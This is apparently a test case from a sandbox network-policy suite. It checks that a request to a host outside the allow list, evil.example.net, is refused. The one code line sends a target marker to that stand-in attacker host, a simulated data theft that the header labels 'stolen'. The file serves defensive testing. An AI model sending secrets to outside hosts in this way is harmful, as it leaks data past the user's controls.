# /// attack
# guarantee = "network"
# summary = "Reaches a name that is not listed."
# reference = "RFC 1034, 3.1"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80", "*.example.org:80"] } }
# refusal = { default = "proxy evil.example.net:80 is not in network.allow" }
# ///

from kit import get, judge, target

judge(get("evil.example.net", "/" + target("MARKER")))
